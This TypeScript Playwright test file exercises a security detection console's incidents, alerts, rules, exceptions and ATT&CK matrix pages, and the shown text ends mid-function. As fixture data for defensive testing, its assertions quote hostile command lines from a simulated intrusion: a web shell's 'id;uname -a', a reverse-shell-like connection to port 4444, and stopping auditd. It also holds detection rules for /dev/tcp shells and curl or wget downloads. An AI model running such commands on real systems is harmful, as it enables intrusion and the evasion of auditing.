// Detection in the browser, against the fake API's stories (fixtures-detect
// .mjs): the incident with its timeline, process tree, peers, files,
// techniques and alerts, its state and assignee changed; the alert queue by
// incident, an alert's rule, techniques and evidence, and an exception made
// from it; rules filtered, one switched off, its severity chosen and reset,
// the problems, a bad file imported (refused with its problems, then with
// force) and an imported file deleted; exceptions created, edited and
// deleted; the ATT&CK matrix with its period, sub-techniques and a cell
// followed to its rules and alerts; each in Chinese too, and a viewer kept
// to reading.
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { apiRequest, signIn } from './steps';

interface Server {
  url: string;
  requests: { method: string; path: string; query: Record<string, string[]>; body: unknown }[];
  detection: {
    exceptions: { id: string; reason: string }[];
    ruleFiles: Map<string, unknown>;
    settings: Map<string, unknown>;
  };
}

interface Shots {
  dir: string;
  always: boolean;
}

const web01 = '7f1c2a9e-0001';
const webshellChild = '3110b6db-05fd-424f-b5a5-541247547866';
const reverseShell = '4cae566c-4121-439f-bea6-b8c586baa5c4';

function shooter(page: Page, shots: Shots) {
  return async (name: string) => {
    if (shots.always) await page.screenshot({ path: join(shots.dir, `${name}.png`) });
  };
}

/** language switches the console's language from the top bar. */
export async function language(page: Page, lang: 'zh' | 'en'): Promise<void> {
  await page.click(`.topbar .lang-switch button:has-text("${lang === 'zh' ? '中文' : 'English'}")`);
  await expect.poll(() => page.getAttribute('html', 'lang')).toBe(lang === 'zh' ? 'zh-CN' : 'en');
}

/** incidentWalk lists incidents, opens the web shell's incident and walks its tabs, then moves and assigns it. */
export async function incidentWalk(page: Page, server: Server, token: string, shots: Shots): Promise<void> {
  const shot = shooter(page, shots);
  await page.goto(`${server.url}/agents`);
  await signIn(page, { token });
  await page.click('.nav a[href="/incidents"]');
  await page.waitForURL((u) => u.pathname === '/incidents');
  const list = page.locator('[data-testid=incidents-table]');
  await expect.poll(() => list.locator('tbody tr').count()).toBe(3);
  expect(await list.locator('tbody tr').first().getAttribute('data-incident-id')).toBe('inc-0001');
  const first = list.locator('tr[data-incident-id=inc-0001]');
  expect(await first.innerText()).toMatch(/Critical\s+Web server process wrote a script into a web root — web-01\s+inc-0001\s+Open\s+web-01/);
  expect(await first.locator('td.num').textContent()).toBe('7');
  // Filters: kept in the URL and sent to the center.
  const [byState] = await Promise.all([
    page.waitForRequest(apiRequest('GET', '/incidents', (u) => u.searchParams.get('state') === 'investigating')),
    page.selectOption('[data-testid=incident-filter] select[name=state]', 'investigating'),
  ]);
  expect(byState).toBeTruthy();
  await expect.poll(() => list.locator('tbody tr').count()).toBe(1);
  expect(await list.locator('tbody tr').first().innerText()).toContain('alice');
  await page.selectOption('[data-testid=incident-filter] select[name=agent_id]', web01);
  await page.waitForURL((u) => u.searchParams.get('agent_id') === web01);
  await page.locator('.empty').waitFor();
  await page.selectOption('[data-testid=incident-filter] select[name=state]', '');
  await expect.poll(() => list.locator('tbody tr').count()).toBe(1);
  await shot('incidents');

  // The incident: the timeline first, in time order, the alerted events marked.
  await list.locator('tr[data-incident-id=inc-0001] td').first().click();
  await page.waitForURL((u) => u.pathname === '/incidents/inc-0001');
  const head = page.locator('[data-testid=incident-head]');
  await head.waitFor();
  expect(await head.locator('h2').textContent()).toBe('Web server process wrote a script into a web root — web-01');
  await expect.poll(() => head.locator('[data-testid=incident-techniques] a').count()).toBe(9);
  expect(await head.innerText()).toContain('Pkexec started with an empty argument list (PwnKit, CVE-2021-4034)');
  const tl = page.locator('[data-testid=timeline-table]');
  await tl.waitFor();
  await expect.poll(() => page.locator('[data-testid=timeline-count]').textContent()).toBe('23 events · 7 raised alerts · 23 shown');
  const times = await tl.locator('tbody tr[data-event-id] td.tl-time').allInnerTexts();
  expect([...times].sort()).toEqual(times);
  expect(await tl.locator('tbody tr[data-alerted=true]').count()).toBe(7);
  const upload = tl.locator('tbody tr[data-event-id]').first();
  expect(await upload.getAttribute('data-alerted')).toBe('true');
  expect(await upload.innerText()).toContain('file-created /var/www/oa/upload/avatar.php by /usr/sbin/php-fpm8.2');
  expect(await upload.locator('.tl-mark').innerText()).toContain('Web server process wrote a script into a web root');
  await upload.click();
  await expect.poll(() => tl.locator('tr.expanded .json-body').textContent()).toContain('9f2d7c1b0e4a6f8d');
  await page.check('input[name=alerted-only]');
  await expect.poll(() => tl.locator('tbody tr[data-event-id]').count()).toBe(7);
  await page.uncheck('input[name=alerted-only]');
  await page.selectOption('[data-testid=incident-timeline] select[name=category]', 'network');
  await expect.poll(() => tl.locator('tbody tr[data-event-id]').count()).toBe(5);
  await page.selectOption('[data-testid=incident-timeline] select[name=category]', '');
  const [span] = await Promise.all([
    page.waitForRequest(apiRequest('GET', '/incidents/inc-0001/timeline', (u) => u.searchParams.get('before') === '5m')),
    page.selectOption('[data-testid=incident-timeline] select[name=before]', '5m'),
  ]);
  expect(new URL(span.url()).searchParams.get('after')).toBe('30m');
  await page.waitForURL((u) => u.searchParams.get('before') === '5m');
  await shot('incident-timeline');

  // The process tree: command lines, alerted processes, closing and details.
  await page.click('[data-testid=incident-tabs] [data-tab=processes]');
  await page.waitForURL((u) => u.searchParams.get('tab') === 'processes');
  const tree = page.locator('[data-testid=process-tree]');
  await tree.waitFor();
  await expect.poll(() => page.locator('[data-testid=tree-count]').textContent()).toBe('15 processes · 7 raised alerts · 15 shown');
  expect(await tree.locator('tbody tr.proc-row').first().getAttribute('data-pid')).toBe('2210');
  expect(await tree.locator('tr[data-alerted=true]').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.pid))).toEqual(['2210', '31001', '31030', '31031', '31040', '31050', '31060']);
  const kworker = tree.locator('tr[data-pid="31022"]');
  expect(await kworker.locator('.proc-cmd-text').textContent()).toBe('/tmp/.ops/kworker -c 203.0.113.9:4444');
  expect(await kworker.getAttribute('class')).toContain('itree-path');
  await kworker.locator('button.proc-toggle').click();
  await expect.poll(() => tree.locator('tr[data-pid="31031"]').count()).toBe(0);
  expect(await kworker.locator('.proc-kids').textContent()).toBe('+1 · ⚠ 5');
  await page.click('[data-testid=tree-alert-paths]');
  await expect.poll(() => tree.locator('tr[data-pid="31002"]').count()).toBe(0);
  expect(await tree.locator('tr[data-pid="31031"]').count()).toBe(1);
  await page.click('[data-testid=tree-expand]');
  await expect.poll(() => tree.locator('tbody tr.proc-row').count()).toBe(15);
  await tree.locator('tr[data-pid="31060"]').click();
  await expect.poll(() => tree.locator('[data-testid=tree-ancestry]').textContent()).toContain(
    'php-fpm8.2 (2210) › dash (31020) › kworker (31022) › dash (31030) › bash (31031) › pkexec (31050) › bash (31051) › systemctl (31060)',
  );
  expect(await tree.locator('[data-testid=tree-detail] pre').textContent()).toBe('systemctl stop auditd');
  await shot('incident-tree');

  // Network peers, files touched, techniques seen, and the alerts.
  await page.click('[data-testid=incident-tabs] [data-tab=network]');
  const c2 = page.locator('[data-testid=incident-peers] tr[data-ip="203.0.113.9"]');
  await expect.poll(() => c2.innerText()).toMatch(/203\.0\.113\.9\s+80, 4444\s+egress\s+3/);
  expect(await c2.innerText()).toContain('/usr/bin/curl, /tmp/.ops/kworker, /usr/bin/bash');
  await page.click('[data-testid=incident-tabs] [data-tab=files]');
  const tool = page.locator('[data-testid=incident-files] tr[data-path="/tmp/.ops/kworker"]');
  await expect.poll(() => tool.innerText()).toContain('file-created');
  expect(await tool.innerText()).toContain('file-attributes-changed');
  await page.click('[data-testid=incident-tabs] [data-tab=techniques]');
  const shell = page.locator('[data-testid=incident-technique-table] tr[data-technique="T1059.004"]');
  await expect.poll(() => shell.innerText()).toMatch(/T1059\.004\s+Command and Scripting Interpreter: Unix Shell\s+3/);
  await page.click('[data-testid=incident-tabs] [data-tab=alerts]');
  const alerts = page.locator('[data-testid=incident-alerts]');
  await expect.poll(() => alerts.locator('tbody tr').count()).toBe(7);
  expect(await alerts.locator('tbody tr').first().getAttribute('data-alert-id')).toBe('al-0101');
  await shot('incident-alerts');

  // Handling: investigate with a comment, then assign.
  const handling = page.locator('[data-testid=incident-handling]');
  const comment = 'Isolating web-01; the OA upload servlet is the way in.';
  await handling.locator('textarea[name=comment]').fill(comment);
  const [move] = await Promise.all([page.waitForRequest(apiRequest('POST', '/incidents/inc-0001/state')), handling.locator('button[data-action=investigating]').click()]);
  expect(move.postDataJSON()).toEqual({ state: 'investigating', comment });
  await expect.poll(() => head.locator('.istate-investigating').count()).toBe(1);
  await expect.poll(() => page.locator('[data-testid=incident-comments]').innerText()).toContain(comment);
  expect(await handling.locator('button[data-action=investigating]').count()).toBe(0);
  expect(await handling.locator('button[data-action=open]').count()).toBe(1);
  await handling.locator('input[name=assignee]').fill('no body');
  expect(await handling.locator('button[data-action=assign]').isDisabled()).toBe(true);
  await handling.locator('input[name=assignee]').fill('alice');
  const [assign] = await Promise.all([page.waitForRequest(apiRequest('POST', '/incidents/inc-0001/state')), handling.locator('button[data-action=assign]').click()]);
  expect(assign.postDataJSON()).toEqual({ assignee: 'alice' });
  await expect.poll(() => page.locator('[data-testid=incident-assignee]').textContent()).toBe('alice');
  await shot('incident-handled');

  // In Chinese: the reconstruction, the tree and the state.
  await language(page, 'zh');
  await page.click('[data-testid=incident-tabs] [data-tab=timeline]');
  expect(await page.locator('[data-testid=incident-tabs] [data-tab=timeline]').textContent()).toBe('事件还原');
  await expect.poll(() => page.locator('[data-testid=timeline-count]').textContent()).toBe('共 23 条事件 · 7 条触发告警 · 显示 23 条');
  expect(await head.locator('.istate-investigating').textContent()).toBe('调查中');
  expect(await page.locator('.topbar h1').textContent()).toBe('安全事件');
  await page.click('[data-testid=incident-tabs] [data-tab=processes]');
  await expect.poll(() => page.locator('[data-testid=tree-count]').textContent()).toBe('共 15 个进程 · 7 个触发告警 · 显示 15 个');
  await page.click('[data-testid=incident-tabs] [data-tab=techniques]');
  await expect.poll(() => shell.innerText()).toContain('命令和脚本解释器：Unix Shell');
  await shot('incident-zh');
  await language(page, 'en');
}

/** alertWalk follows the alert queue by incident, reads an alert's rule, techniques and evidence, and makes an exception from it. */
export async function alertWalk(page: Page, server: Server, token: string, shots: Shots): Promise<void> {
  const shot = shooter(page, shots);
  await page.goto(`${server.url}/agents`);
  await signIn(page, { token });
  await page.goto(`${server.url}/alerts?incident_id=inc-0002`);
  const table = page.locator('[data-testid=alerts-table]');
  await expect.poll(() => table.locator('tbody tr').count()).toBe(3);
  expect(server.requests.some((r) => r.path === '/alerts' && r.query.incident_id?.[0] === 'inc-0002')).toBe(true);
  await expect.poll(() => page.locator('select[name=incident_id] option:checked').textContent()).toBe('Password guessing against one host from one source — db-01');
  expect(await table.locator('tr[data-alert-id=al-0002] [data-incident] a').getAttribute('href')).toBe('/incidents/inc-0002');

  // A correlation alert: what was counted, grouped by what, the values.
  await table.locator('tr[data-alert-id=al-0005] td').first().click();
  const drawer = page.locator('[data-testid=alert-drawer]');
  const corr = drawer.locator('[data-testid=evidence-correlation]');
  await corr.waitFor();
  expect(await corr.innerText()).toContain('value_count');
  expect(await corr.locator('[data-testid=correlation-count]').textContent()).toBe('4');
  expect(await corr.innerText()).toMatch(/admin\s*oracle\s*postgres\s*root/);
  expect(await corr.innerText()).toContain('198.51.100.7');
  await expect.poll(() => drawer.locator('[data-testid=alert-rule] a').textContent()).toBe('Many accounts tried from one source');
  await shot('alert-correlation');
  await page.keyboard.press('Escape');
  await drawer.waitFor({ state: 'detached' });
  await page.selectOption('select[name=incident_id]', '');
  await page.waitForURL((u) => !u.searchParams.has('incident_id'));
  await expect.poll(() => table.locator('tbody tr').count()).toBe(11);
  const [byIncident] = await Promise.all([
    page.waitForRequest(apiRequest('GET', '/alerts', (u) => u.searchParams.get('incident_id') === 'inc-0003')),
    page.selectOption('select[name=incident_id]', 'inc-0003'),
  ]);
  expect(byIncident).toBeTruthy();
  await expect.poll(() => table.locator('tbody tr').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.alertId))).toEqual(['al-0003']);

  // The incident column leads to the incident, not to the alert.
  await table.locator('tr[data-alert-id=al-0003] [data-incident] a').click();
  await page.waitForURL((u) => u.pathname === '/incidents/inc-0003');
  await page.goBack();

  // The web shell's alert: its rule, its techniques by name, its event.
  await page.goto(`${server.url}/alerts/al-0102`);
  await drawer.waitFor();
  const rule = drawer.locator('[data-testid=alert-rule]');
  await expect.poll(() => rule.locator('a').getAttribute('href')).toBe(`/rules/${webshellChild}`);
  expect(await rule.innerText()).toContain('Web control panels and monitoring front ends');
  await expect.poll(() => drawer.locator('[data-testid=alert-techniques]').innerText()).toContain('Server Software Component: Web Shell');
  expect(await drawer.locator('[data-testid=alert-techniques] a').first().getAttribute('href')).toBe('/attack?technique=T1505.003');
  expect(await drawer.locator('[data-testid=alert-incident] a').getAttribute('href')).toBe('/incidents/inc-0001');
  const ev = drawer.locator('[data-testid=evidence-event]');
  expect(await ev.innerText()).toContain("sh -c id;uname -a");
  expect(await ev.innerText()).toContain('/usr/sbin/php-fpm8.2');
  await shot('alert-detail');

  // An exception from it: the rule, the agent and the event's fields filled in.
  await drawer.locator('button[data-action=exception]').click();
  const dialog = page.locator('[data-testid=exception-dialog]');
  await dialog.waitFor();
  expect(await dialog.locator('input[name=rule_id]').inputValue()).toBe(webshellChild);
  await expect.poll(() => dialog.locator('[data-testid=exception-rule-note]').textContent()).toBe('Web server process starts a shell or reconnaissance tool');
  await expect.poll(() => dialog.locator('select[name=agent_id]').inputValue()).toBe(web01);
  const fields = () => dialog.locator('[data-match-field]').evaluateAll((xs) => xs.map((x) => (x as HTMLInputElement).value));
  expect(await fields()).toEqual(['process.executable', 'process.command_line', 'process.parent.executable', 'user.name']);
  expect(await dialog.locator('[data-match-patterns="1"]').inputValue()).toBe('sh -c id;uname -a');
  // Narrow it to the PHP pool's shell, without the command line.
  await dialog.locator('[data-match-row="1"] button').click();
  expect(await fields()).toEqual(['process.executable', 'process.parent.executable', 'user.name']);
  const submit = page.locator('[data-testid=exception-dialog] button[type=submit]');
  expect(await submit.isDisabled()).toBe(true);
  expect(await dialog.locator('[data-testid=exception-problems]').textContent()).toContain('A reason is required.');
  await dialog.locator('textarea[name=reason]').fill('OA status page runs sh through PHP-FPM (CHG-2210)');
  const [post] = await Promise.all([page.waitForRequest(apiRequest('POST', '/exceptions')), submit.click()]);
  expect(post.postDataJSON()).toEqual({
    rule_id: webshellChild,
    agent_id: web01,
    match: { 'process.executable': ['/usr/bin/dash'], 'process.parent.executable': ['/usr/sbin/php-fpm8.2'], 'user.name': ['www-data'] },
    reason: 'OA status page runs sh through PHP-FPM (CHG-2210)',
  });
  await page.waitForURL((u) => u.pathname === '/exceptions' && !!u.searchParams.get('created'));
  const created = new URL(page.url()).searchParams.get('created') ?? '';
  const row = page.locator(`[data-testid=exceptions-table] tr[data-exception-id="${created}"]`);
  await expect.poll(() => row.innerText()).toContain('OA status page runs sh through PHP-FPM');
  expect(await row.getAttribute('class')).toContain('selected');
  await shot('exception-from-alert');
  // And delete it.
  await row.locator('button[data-action=delete]').click();
  const [del] = await Promise.all([page.waitForRequest(apiRequest('DELETE', `/exceptions/${created}`)), page.click('[data-testid=confirm-ok]')]);
  expect(del).toBeTruthy();
  await expect.poll(() => row.count()).toBe(0);
  expect(server.detection.exceptions.some((e) => e.id === created)).toBe(false);
}

/** rulesWalk filters the rules, switches one off and on, chooses its severity, reads the problems and imports files. */
export async function rulesWalk(page: Page, server: Server, token: string, shots: Shots): Promise<void> {
  const shot = shooter(page, shots);
  await page.goto(`${server.url}/agents`);
  await signIn(page, { token });
  await page.click('.nav a[href="/rules"]');
  await page.waitForURL((u) => u.pathname === '/rules');
  const table = page.locator('[data-testid=rules-table]');
  await expect.poll(() => page.locator('[data-testid=rules-count]').textContent()).toBe('38 rules');

  // Filters, kept in the URL and sent to the center.
  const filter = page.locator('[data-testid=rules-filter]');
  await filter.locator('input[name=q]').fill('/dev/tcp');
  await filter.locator('select[name=level]').selectOption('critical');
  const [req] = await Promise.all([page.waitForRequest(apiRequest('GET', '/rules', (u) => u.searchParams.get('level') === 'critical')), filter.locator('button[type=submit]').click()]);
  expect(new URL(req.url()).searchParams.get('q')).toBe('/dev/tcp');
  await expect.poll(() => table.locator('tbody tr').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.ruleId))).toEqual([reverseShell]);
  await filter.locator('button:has-text("Reset")').click();
  await page.waitForURL((u) => u.search === '');
  await filter.locator('input[name=technique]').fill('T1110');
  await filter.locator('select[name=kind]').selectOption('correlation');
  await filter.locator('button[type=submit]').click();
  await page.waitForURL((u) => u.searchParams.get('technique') === 'T1110' && u.searchParams.get('kind') === 'correlation');
  await expect.poll(() => table.locator('tbody tr').count()).toBe(5);
  expect((await table.locator('tbody tr').allInnerTexts()).every((t) => t.includes('T1110'))).toBe(true);
  await shot('rules-filtered');

  // A rule's page: what it is, its source, and switching it off.
  await page.goto(`${server.url}/rules/${reverseShell}`);
  const rule = page.locator('[data-testid=rule-page]');
  await rule.locator('h2').waitFor();
  expect(await rule.locator('h2').textContent()).toBe('Shell redirected to a /dev/tcp or /dev/udp connection');
  await expect.poll(() => rule.locator('[data-testid=rule-source]').innerText()).toContain('id: 4cae566c-4121-439f-bea6-b8c586baa5c4');
  await expect.poll(() => rule.locator('[data-testid=rule-techniques]').innerText()).toContain('Non-Application Layer Protocol');
  expect(await rule.locator('[data-testid=rule-falsepositives] li').count()).toBeGreaterThan(0);
  expect(await rule.locator('[data-testid=rule-references] a').first().getAttribute('target')).toBe('_blank');
  const setting = rule.locator('[data-testid=rule-setting]');
  const [off] = await Promise.all([page.waitForRequest(apiRequest('PUT', `/rules/${reverseShell}/setting`)), setting.locator('button[data-action=disable]').click()]);
  expect(off.postDataJSON()).toEqual({ disabled: true, severity: '' });
  await expect.poll(() => rule.locator('[data-testid=rule-state]').textContent()).toBe('Disabled');
  await expect.poll(() => setting.locator('[data-testid=setting-note]').innerText()).toContain('Changed by token:e2e');
  const [sev] = await Promise.all([page.waitForRequest(apiRequest('PUT', `/rules/${reverseShell}/setting`)), setting.locator('select[name=severity]').selectOption('medium')]);
  expect(sev.postDataJSON()).toEqual({ disabled: true, severity: 'medium' });
  await expect.poll(() => setting.locator('.sev-medium').count()).toBe(1);
  await shot('rule-disabled');
  // Listed as disabled, then back to its defaults.
  await page.goto(`${server.url}/rules?disabled=true`);
  await expect.poll(() => table.locator('tbody tr').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.ruleId))).toEqual([reverseShell]);
  expect(await table.locator('tbody tr .override-mark').count()).toBe(1);
  await table.locator('tbody tr td').first().click();
  await page.waitForURL((u) => u.pathname === `/rules/${reverseShell}`);
  const [reset] = await Promise.all([page.waitForRequest(apiRequest('DELETE', `/rules/${reverseShell}/setting`)), setting.locator('button[data-action=reset]').click()]);
  expect(reset).toBeTruthy();
  await expect.poll(() => rule.locator('[data-testid=rule-state]').textContent()).toBe('Enabled');
  expect(server.detection.settings.size).toBe(0);

  // The rules that were not loaded, by file and line.
  await page.goto(`${server.url}/rules`);
  await page.click('[data-testid=rules-tabs] [data-tab=problems]');
  await page.waitForURL((u) => u.pathname === '/rules/problems');
  const problems = page.locator('[data-testid=problems-table]');
  await expect.poll(() => problems.locator('tbody tr').count()).toBe(1);
  expect(await problems.locator('tbody tr').innerText()).toMatch(/custom\/legacy_ssh\.yml:31\s+Encoded command in a login shell[\s\S]*unknown modifier "base64offset2"/);

  // Import: a name the center refuses is said before sending.
  await page.click('[data-testid=import-rules]');
  const dialog = page.locator('[data-testid=import-dialog]');
  const files = dialog.locator('[data-testid=import-files]');
  await files.setInputFiles([{ name: 'curl.test.yml', mimeType: 'application/x-yaml', buffer: Buffer.from('tests: []\n') }]);
  await expect.poll(() => dialog.locator('[data-testid=import-chosen]').innerText()).toContain('Rule tests (.test.yml) are not imported.');
  expect(await dialog.locator('[data-testid=import-send]').isDisabled()).toBe(true);
  // A bad file with a good one: refused, the problems by file and line.
  const bad = ['title: Curl piped to a shell', 'id: 6f1e2d3c-4b5a-4978-8a6b-5c4d3e2f1a0b', 'logsource:', '  product: linux', '  category: process_creation', 'detection:', '  selection:', '    process.command_line|contains: curl', 'level: high', ''].join('\n');
  const good = ['title: Wget from a web server', 'id: 1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d', 'status: experimental', 'tags:', '  - attack.command-and-control', '  - attack.t1105', 'logsource:', '  product: linux', '  category: process_creation', 'detection:', '  selection:', '    process.name: wget', '    process.parent.name: nginx', '  condition: selection', 'level: medium', ''].join('\n');
  await files.setInputFiles([
    { name: 'curl_pipe.yml', mimeType: 'application/x-yaml', buffer: Buffer.from(bad) },
    { name: 'wget_web.yml', mimeType: 'application/x-yaml', buffer: Buffer.from(good) },
  ]);
  await dialog.locator('input[name=folder]').fill('custom/linux');
  await expect.poll(() => dialog.locator('[data-testid=import-chosen] tr[data-ok=true]').count()).toBe(2);
  const [refusedReq] = await Promise.all([page.waitForRequest(apiRequest('POST', '/rules/import')), dialog.locator('[data-testid=import-send]').click()]);
  const sent = refusedReq.postDataJSON() as { files: { name: string; content: string }[]; force: boolean };
  expect(sent.force).toBe(false);
  expect(sent.files.map((f) => f.name)).toEqual(['custom/linux/curl_pipe.yml', 'custom/linux/wget_web.yml']);
  expect(sent.files[1]!.content).toBe(good);
  const refused = dialog.locator('[data-testid=import-problems]');
  await expect.poll(() => refused.innerText()).toContain('custom/linux/curl_pipe.yml:6: detection has no condition');
  expect(await refused.innerText()).toContain('1 of 2 files have problems; nothing was imported');
  expect(server.detection.ruleFiles.has('custom/linux/wget_web.yml')).toBe(false);
  await shot('import-refused');
  // With force the good one is stored.
  await dialog.locator('input[name=force]').check();
  const [forced] = await Promise.all([page.waitForRequest(apiRequest('POST', '/rules/import')), dialog.locator('[data-testid=import-send]').click()]);
  expect((forced.postDataJSON() as { force: boolean }).force).toBe(true);
  const result = dialog.locator('[data-testid=import-result]');
  await expect.poll(() => result.innerText()).toContain('1 files stored, 1 skipped.');
  expect(await result.locator('li[data-file="custom/linux/wget_web.yml"]').innerText()).toContain('new · 1 rules loaded');
  expect(await result.innerText()).toContain('custom/linux/curl_pipe.yml:6: detection has no condition');
  await shot('import-forced');
  await dialog.locator('button:has-text("Done")').click();
  await dialog.waitFor({ state: 'detached' });

  // The imported files: the new one listed, then deleted.
  await page.click('[data-testid=rules-tabs] [data-tab=files]');
  await page.waitForURL((u) => u.pathname === '/rule-files');
  const fileRow = page.locator('[data-testid=rule-files-table] tr[data-file="custom/linux/wget_web.yml"]');
  await expect.poll(() => fileRow.innerText()).toMatch(/custom\/linux\/wget_web\.yml[\s\S]*\b1\s+0\b/);
  expect(await page.locator('[data-testid=rule-files-table] tr[data-file="custom/legacy_ssh.yml"] td.text-bad').textContent()).toBe('1');
  await fileRow.locator('button[data-action=delete]').click();
  const [del] = await Promise.all([page.waitForRequest(apiRequest('DELETE', '/rule-files/custom/linux/wget_web.yml')), page.click('[data-testid=confirm-ok]')]);
  expect(del).toBeTruthy();
  await expect.poll(() => fileRow.count()).toBe(0);
  expect(server.detection.ruleFiles.has('custom/linux/wget_web.yml')).toBe(false);

  // In Chinese.
  await language(page, 'zh');
  await page.goto(`${server.url}/rules/problems`);
  expect(await page.locator('[data-testid=rules-tabs] [data-tab=problems]').textContent()).toBe('加载问题');
  expect(await page.locator('.topbar h1').textContent()).toBe('检测规则');
  await page.goto(`${server.url}/rules/${reverseShell}`);
  await expect.poll(() => page.locator('[data-testid=rule-setting] button[data-action=disable]').textContent()).toBe('禁用规则');
  expect(await page.locator('[data-testid=rule-state]').textContent()).toBe('已启用');
  await shot('rule-zh');
  await language(page, 'en');
}

/** exceptionWalk lists the exceptions (the expired one marked), and creates, edits and deletes one. */
export async function exceptionWalk(page: Page, server: Server, token: string, shots: Shots): Promise<void> {
  const shot = shooter(page, shots);
  await page.goto(`${server.url}/agents`);
  await signIn(page, { token });
  await page.click('.nav a[href="/exceptions"]');
  await page.waitForURL((u) => u.pathname === '/exceptions');
  const table = page.locator('[data-testid=exceptions-table]');
  await expect.poll(() => table.locator('tbody tr').count()).toBe(3);
  const expired = table.locator('tr[data-exception-id=ex-0003]');
  expect(await expired.getAttribute('data-expired')).toBe('true');
  expect(await expired.locator('[data-testid=expired]').textContent()).toBe('Expired');
  const zabbix = table.locator('tr[data-exception-id=ex-0001]');
  expect(await zabbix.innerText()).toMatch(/process\.parent\.command_line \*zabbix_agentd\*[\s\S]*\b41\b[\s\S]*2 h ago/);
  await page.check('[data-testid=exceptions-filter] input[name=active]');
  await page.waitForURL((u) => u.searchParams.get('active') === 'true');
  await expect.poll(() => table.locator('tbody tr').count()).toBe(2);
  expect(server.requests.some((r) => r.path === '/exceptions' && r.query.active?.[0] === 'true')).toBe(true);
  await shot('exceptions');

  // Create: the editor says what is wrong, then it is sent.
  await page.click('[data-testid=new-exception]');
  const dialog = page.locator('[data-testid=exception-dialog]');
  await dialog.waitFor();
  await dialog.locator('input[name=rule_id]').fill('not-a-rule');
  await expect.poll(() => dialog.locator('[data-testid=exception-rule-note]').textContent()).toBe('No loaded rule has this id.');
  await dialog.locator('input[name=rule_id]').fill('');
  await dialog.locator('[data-match-field="0"]').fill('Process Name');
  await dialog.locator('[data-match-patterns="0"]').fill('/opt/backup/bin/*');
  await expect.poll(() => dialog.locator('.match-issue').textContent()).toContain('Field “Process Name”: a dotted ECS field');
  await dialog.locator('[data-match-field="0"]').fill('process.executable');
  await dialog.locator('[data-testid=add-match]').click();
  await dialog.locator('[data-match-field="1"]').fill('user.name');
  await dialog.locator('[data-match-patterns="1"]').fill('backup\nbackup-*');
  await dialog.locator('select[name=agent_id]').selectOption('7f1c2a9e-0003');
  await dialog.locator('textarea[name=reason]').fill('Nightly backup of the database');
  const [post] = await Promise.all([page.waitForRequest(apiRequest('POST', '/exceptions')), dialog.locator('button[type=submit]').click()]);
  expect(post.postDataJSON()).toEqual({ agent_id: '7f1c2a9e-0003', match: { 'process.executable': ['/opt/backup/bin/*'], 'user.name': ['backup', 'backup-*'] }, reason: 'Nightly backup of the database' });
  await dialog.waitFor({ state: 'detached' });
  const row = table.locator('tbody tr.selected');
  await expect.poll(() => row.innerText()).toContain('Nightly backup of the database');
  expect(await row.innerText()).toContain('every rule');
  expect(await row.innerText()).toContain('db-01');
  const id = (await row.getAttribute('data-exception-id')) ?? '';

  // Edit: the reason changed, an expiry added.
  await row.locator('button[data-action=edit]').click();
  await dialog.waitFor();
  expect(await dialog.locator('[data-match-patterns="1"]').inputValue()).toBe('backup\nbackup-*');
  await dialog.locator('textarea[name=reason]').fill('Nightly backup of the database (until the new backup host)');
  await dialog.locator('input[name=expires_at]').fill('2099-01-01T00:00');
  const [put] = await Promise.all([page.waitForRequest(apiRequest('PUT', `/exceptions/${id}`)), dialog.locator('button[type=submit]').click()]);
  const body = put.postDataJSON() as { reason: string; expires_at: string };
  expect(body.reason).toBe('Nightly backup of the database (until the new backup host)');
  expect(body.expires_at).toBe(new Date('2099-01-01T00:00').toISOString().replace('.000Z', 'Z'));
  const edited = table.locator(`tr[data-exception-id="${id}"]`);
  await expect.poll(() => edited.innerText()).toContain('until the new backup host');
  await shot('exception-edited');

  // In Chinese, then delete it.
  await language(page, 'zh');
  expect(await page.locator('.topbar h1').textContent()).toBe('告警例外');
  await expect.poll(() => table.locator('thead').innerText()).toMatch(/规则与代理[\s\S]*命中次数/);
  await edited.locator('button[data-action=delete]').click();
  expect(await page.locator('[data-testid=confirm] h2').textContent()).toBe('删除此例外？');
  const [del] = await Promise.all([page.waitForRequest(apiRequest('DELETE', `/exceptions/${id}`)), page.click('[data-testid=confirm-ok]')]);
  expect(del).toBeTruthy();
  await expect.poll(() => edited.count()).toBe(0);
  await language(page, 'en');
}

/** matrixWalk draws the matrix, changes its period, opens sub-techniques and follows a cell to its rules and alerts. */
export async function matrixWalk(page: Page, server: Server, token: string, shots: Shots): Promise<void> {
  const shot = shooter(page, shots);
  await page.goto(`${server.url}/agents`);
  await signIn(page, { token });
  await page.click('.nav a[href="/attack"]');
  await page.waitForURL((u) => u.pathname === '/attack');
  const matrix = page.locator('[data-testid=attack-matrix]');
  await matrix.waitFor();
  expect(await matrix.locator('.matrix-col').count()).toBe(14);
  expect(await matrix.locator('.matrix-tactic').first().textContent()).toBe('Reconnaissance');
  const exec = matrix.locator('.matrix-col[data-tactic=execution]');
  const cli = exec.locator('.matrix-cell[data-technique=T1059]');
  expect(await cli.getAttribute('data-heat')).toBe('fired-3');
  expect(await cli.innerText()).toMatch(/Command and Scripting Interpreter\s+T1059\s+rules: 6\s+alerts: 4/);
  expect(await exec.locator('.matrix-cell[data-technique=T1204]').getAttribute('data-heat')).toBe('none');
  await expect.poll(() => page.locator('[data-testid=attack-summary]').innerText()).toContain('ATT&CK v18.1');
  expect(await page.locator('[data-testid=attack-fired]').textContent()).toContain('11 alerts since');
  // Sub-techniques under the technique, in its column only.
  await cli.locator('[data-testid=sub-toggle]').click();
  await expect.poll(() => exec.locator('.matrix-subcell[data-technique="T1059.004"]').count()).toBe(1);
  expect(await exec.locator('.matrix-subcell[data-technique="T1059.004"]').innerText()).toMatch(/Unix Shell\s+T1059\.004\s+rules: 6\s+alerts: 4/);
  // The period: the alerts of the last day.
  const dayAgo = (u: URL) => Date.parse(u.searchParams.get('since') ?? '') < Date.now() - 3_600_000 && Date.parse(u.searchParams.get('since') ?? '') > Date.now() - 2 * 86_400_000;
  const [day] = await Promise.all([page.waitForRequest(apiRequest('GET', '/attack/coverage', dayAgo)), page.selectOption('[data-testid=attack-toolbar] select[name=period]', '24h')]);
  const since = Date.parse(new URL(day.url()).searchParams.get('since') ?? '');
  expect(Math.abs(Date.now() - 86_400_000 - since)).toBeLessThan(120_000);
  await page.waitForURL((u) => u.searchParams.get('period') === '24h');
